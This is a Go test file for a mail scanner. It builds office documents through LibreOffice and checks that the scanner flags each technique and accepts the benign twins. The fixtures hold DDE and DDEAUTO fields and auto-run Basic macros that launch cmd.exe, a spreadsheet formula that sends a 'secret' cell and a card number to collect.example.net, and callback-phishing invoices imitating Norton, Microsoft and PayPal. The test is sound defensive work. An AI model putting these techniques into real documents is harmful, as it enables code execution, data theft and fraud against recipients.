package main

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/soffice"
	"github.com/kensa-milter/kensa/internal/testmail"
	"github.com/kensa-milter/kensa/policy"
)

// TestLibreOfficeSaves has LibreOffice (scripts/deps.sh test installs it)
// write each technique in every format it saves that keeps the technique,
// and the benign twins in the same formats, then scans each file attached to
// a mail with kensa scan. Real documents are written by office suites, not by
// our writers: this is where a parser that only knows our layout misses.
// LibreOffice drops some techniques on the way (the Writer DDE field in .doc,
// .docx and .rtf, every DDE formula in .csv): those pairs are not asserted;
// docs/heuristics.md lists what it keeps.
func TestLibreOfficeSaves(t *testing.T) {
	dir := t.TempDir()
	in := func(name, data string) string { return writeFile(t, dir, "in/"+name, []byte(data)) }
	calc := func(rows string) string {
		return soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Sheet1">`+rows+`</table:table></office:spreadsheet></office:body>`)
	}
	writer := func(inner string) string { return soffice.Flat("text", inner) }
	row := func(cell string) string { return `<table:table-row>` + cell + `</table:table-row>` }
	num := func(v string) string {
		return row(`<table:table-cell office:value-type="float" office:value="` + v + `"><text:p>` + v + `</text:p></table:table-cell>`)
	}
	ddeSheet := in("dde-sheet.fods", calc(num("1")+row(`<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc.exe&quot;;&quot;A0&quot;)"/>`)))
	sumSheet := in("sum-sheet.fods", calc(num("1")+num("2")+row(`<table:table-cell table:formula="of:=SUM([.A1:.A2])&amp;&quot;|net!&quot;"/>`)))
	ddeText := in("dde-text.fodt", writer(`<office:body><office:text><text:dde-connection-decls><text:dde-connection-decl office:name="Link1" office:dde-application="c:\windows\system32\cmd.exe" office:dde-topic="/k calc.exe" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>`+
		`<text:p>Invoice <text:dde-connection text:connection-name="Link1">x</text:dde-connection></text:p></office:text></office:body>`))
	fieldsText := in("fields-text.fodt", writer(`<office:body><office:text><text:p>Page <text:page-number text:select-page="current">1</text:page-number> of <text:page-count>1</text:page-count>, `+
		`<text:a xlink:type="simple" xlink:href="https://www.example.com/">our site</text:a>, run | it!</text:p></office:text></office:body>`))
	basicText := in("basic-text.fodt", writer(`<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Hello
  MsgBox &quot;hello&quot;
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts><office:body><office:text><text:p>Template</text:p></office:text></office:body>`))
	shellText := in("shell-text.fodt", writer(`<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Startup
  Shell(&quot;cmd.exe /c calc.exe&quot;)
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts><office:body><office:text><text:p>Invoice</text:p></office:text></office:body>`))
	// The same macro bound to the document's OnLoad event, as LibreOffice
	// writes the binding (the event name is a QName: its prefix declared).
	onLoadText := in("onload-text.fodt", writer(
		`<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Startup
  Shell(&quot;cmd.exe /c calc.exe&quot;)
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>`+
			`<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Startup?language=Basic&amp;location=document" xlink:type="simple"/>`+
			`</office:event-listeners></office:scripts><office:body><office:text><text:p>Invoice</text:p></office:text></office:body>`))
	// A Word DDEAUTO field, split over runs as Word writes it after editing.
	w := `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	run := func(x string) string { return `<w:r>` + x + `</w:r>` }
	ddeDocx := writeFile(t, dir, "in/dde-word.docx", formats.ArchiveZip(true,
		formats.ZipEntry{Name: "[Content_Types].xml", Data: []byte(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)},
		formats.ZipEntry{Name: "_rels/.rels", Data: []byte(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`)},
		formats.ZipEntry{Name: "word/document.xml", Data: []byte(`<?xml version="1.0" encoding="UTF-8"?><w:document ` + w + `><w:body><w:p>` + run(`<w:t xml:space="preserve">Order </w:t>`) +
			run(`<w:fldChar w:fldCharType="begin"/>`) + run(`<w:instrText xml:space="preserve"> dDe</w:instrText>`) + run(`<w:instrText xml:space="preserve">AuTo c:\\windows\\system32\\cmd.exe "/k calc.exe" \* MERGEFORMAT </w:instrText>`) +
			run(`<w:fldChar w:fldCharType="separate"/>`) + run(`<w:t>x</w:t>`) + run(`<w:fldChar w:fldCharType="end"/>`) + `</w:p></w:body></w:document>`)}))

	// A callback lure (the brand and the number cut into spans, which
	// LibreOffice writes as runs) and an honest supplier's invoice that
	// names itself, as text documents, and a lure in a workbook's cells.
	callbackText := in("callback-text.fodt", writer(`<office:body><office:text><text:h text:outline-level="1">Nor<text:span>ton</text:span> 360 Deluxe</text:h>`+
		`<text:p>Invoice NT-88412. Your subscription was renewed automatically: $499.99 charged.</text:p>`+
		`<text:p>If you did not authorize this charge, call our billing desk to cancel: <text:span>1-808-</text:span>555-0199</text:p></office:text></office:body>`))
	supplierText := in("supplier-text.fodt", writer(`<office:body><office:text><text:h text:outline-level="1">Example Supplies Ltd</text:h>`+
		`<text:p>Invoice INV-2208: Microsoft 365 Business licences, total $1,200.00.</text:p>`+
		`<text:p>To cancel or change your order call +44 20 7946 0958.</text:p></office:text></office:body>`))
	str := func(v string) string {
		return row(`<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`)
	}
	callbackSheet := in("callback-sheet.fods", calc(str("Microsoft 365 Family")+str("Renewal charged: $299.99")+str("Not authorized? To cancel call 1-808-555-0199")))
	// A sheet sending a cell to a web service, and one reading the ECB's
	// published rates.
	webCell := func(f string) string {
		return row(`<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>secret</text:p></table:table-cell>`)
	}
	webSheet := in("web-sheet.fods", calc(webCell(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`)))
	// The address in another cell, finished by a cell the reader fills in;
	// and rates for the currency the sheet names in a cell.
	strCell := func(v string) string {
		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
	}
	formCell := func(f string) string {
		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
	}
	webRefSheet := in("web-ref-sheet.fods", calc(row(formCell(`COM.MICROSOFT.WEBSERVICE([.A2])`)+strCell("Your card number:"))+
		row(formCell(`&quot;https://collect.example.net/c?n=&quot;&amp;[.C1]`))))
	ratesRefSheet := in("rates-ref-sheet.fods", calc(row(formCell(`COM.MICROSOFT.WEBSERVICE([.A2]&amp;[.B1])`)+strCell("EUR"))+
		row(strCell("https://api.rates.example/latest?base="))))
	ratesSheet := in("rates-sheet.fods", calc(webCell(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))
	// The same as slides, saved as .ppt.
	deck := func(name string, boxes ...string) string {
		var b strings.Builder
		for i, t := range boxes {
			fmt.Fprintf(&b, `<draw:frame svg:x="1cm" svg:y="%dcm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>%s</text:p></draw:text-box></draw:frame>`, 1+4*i, t)
		}
		return in(name, soffice.Flat("presentation", `<office:body><office:presentation><draw:page draw:name="page1">`+b.String()+`</draw:page></office:presentation></office:body>`))
	}
	callbackDeck := deck("callback-deck.fodp", "PayPal Invoice", "Your order of $749.00 was charged.", "Not you? To cancel call 1-808-555-0199")
	supplierDeck := deck("supplier-deck.fodp", "Example Supplies Ltd", "Microsoft 365 Business licences, total $1,200.00.", "To cancel or change your order call +44 20 7946 0958.")

	type want struct {
		in      string
		formats []string // extensions LibreOffice saves it as
		finding string   // "" for a benign twin: accepted
		action  policy.Action
		pw      string // saved encrypted with this password, which the mail gives
	}
	filters := map[string]string{
		"xlsx": "Calc Office Open XML", "xls": "MS Excel 97", "ods": "calc8", "fods": "OpenDocument Spreadsheet Flat XML", "slk": "SYLK", "csv": "Text - txt - csv (StarCalc)",
		"docx": "MS Word 2007 XML", "doc": "MS Word 97", "ppt": "MS PowerPoint 97", "rtf": "Rich Text Format", "odt": "writer8", "fodt": "OpenDocument Text Flat XML",
	}
	wants := []want{
		{ddeSheet, []string{"xlsx", "xls", "ods", "fods", "slk"}, "dde-exec", policy.Reject, ""},
		{sumSheet, []string{"xlsx", "xls", "ods", "fods", "slk", "csv"}, "", policy.Accept, ""},
		{ddeText, []string{"odt", "fodt"}, "dde-exec", policy.Reject, ""},
		{ddeDocx, []string{"docx", "doc", "rtf", "odt", "fodt"}, "dde-exec", policy.Reject, ""},
		{fieldsText, []string{"docx", "doc", "rtf", "odt", "fodt"}, "", policy.Accept, ""},
		{basicText, []string{"odt", "fodt"}, "office-macro", policy.Tag, ""},
		{shellText, []string{"odt"}, "vba-exec", policy.Quarantine, ""},
		{onLoadText, []string{"odt"}, "vba-autorun-exec", policy.Reject, ""},
		{callbackText, []string{"docx", "doc", "rtf", "odt"}, "callback-phishing", policy.Quarantine, ""},
		{supplierText, []string{"docx", "doc", "rtf", "odt"}, "", policy.Accept, ""},
		{callbackSheet, []string{"xlsx", "xls", "ods"}, "callback-phishing", policy.Quarantine, ""},
		{callbackDeck, []string{"ppt"}, "callback-phishing", policy.Quarantine, ""},
		{webSheet, []string{"xlsx", "xls", "ods"}, "formula-web-fetch", policy.Tag, ""},
		{ratesSheet, []string{"xlsx", "xls", "ods"}, "", policy.Accept, ""},
		{webRefSheet, []string{"xlsx", "xls", "ods"}, "formula-web-fetch", policy.Tag, ""},
		{ratesRefSheet, []string{"xlsx", "xls", "ods"}, "", policy.Accept, ""},
		{supplierDeck, []string{"ppt"}, "", policy.Accept, ""},
		// Encrypted as LibreOffice 7.4 encrypts .doc and .xls (RC4, version 1.1),
		// the password in the mail: the text is read once decrypted.
		{callbackText, []string{"doc"}, "callback-phishing", policy.Quarantine, "Kw-4471"},
		{supplierText, []string{"doc"}, "password-from-body", policy.Tag, "Kw-4471"}, // that check alone
		{callbackSheet, []string{"xls"}, "callback-phishing", policy.Quarantine, "Kw-4471"},
	}
	var jobs []soffice.CryptJob
	expect := map[string]want{} // mail file name -> what Kensa must say
	for _, wt := range wants {
		base := strings.TrimSuffix(filepath.Base(wt.in), filepath.Ext(wt.in))
		mode := "open"
		if wt.pw != "" {
			base, mode = base+"-encrypted", "save"
		}
		for _, ext := range wt.formats {
			out := filepath.Join(dir, "out", base+"."+ext)
			jobs = append(jobs, soffice.CryptJob{Mode: mode, In: wt.in, Password: wt.pw, Out: out, Filter: filters[ext]})
			expect[base+"."+ext+".eml"] = wt
		}
	}
	if err := os.MkdirAll(filepath.Join(dir, "out"), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := soffice.Crypt(dir, jobs...); err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, out)
	}
	mails := filepath.Join(dir, "mails")
	for name := range expect {
		doc := strings.TrimSuffix(name, ".eml")
		b, err := os.ReadFile(filepath.Join(dir, "out", doc))
		if err != nil {
			t.Fatalf("LibreOffice wrote no %s: %v", doc, err)
		}
		body := "The document.\n"
		if pw := expect[name].pw; pw != "" {
			body = "The document. Password: " + pw + "\n"
		}
		writeFile(t, mails, name, testmail.Multipart("Document", "mixed",
			testmail.Part{Type: "text/plain", Body: body},
			testmail.Part{Type: "application/octet-stream", Filename: doc, Body: string(b), Base64: true}))
	}
	code, results := scanJSON(t, "--config", corpusConfig(t, dir), mails)
	if code == exitError {
		t.Errorf("kensa scan exited %d (an error)", code)
	}
	seen := map[string]bool{}
	var table []string
	for _, r := range results {
		name := filepath.Base(r.File)
		wt, ok := expect[name]
		if !ok {
			t.Errorf("unexpected result for %s", r.File)
			continue
		}
		seen[name] = true
		var ids []string
		has := false
		for _, f := range r.Findings {
			ids = append(ids, f.ID)
			has = has || f.ID == wt.finding
		}
		table = append(table, name+": "+r.Action.String()+" "+strings.Join(ids, ","))
		if r.Action != wt.action || wt.finding != "" && !has {
			t.Errorf("%s: %s %v, want %s with %q", name, r.Action, ids, wt.action, wt.finding)
		}
	}
	for name := range expect {
		if !seen[name] {
			t.Errorf("%s: not scanned", name)
		}
	}
	sort.Strings(table)
	t.Logf("LibreOffice's files:\n%s", strings.Join(table, "\n"))
}
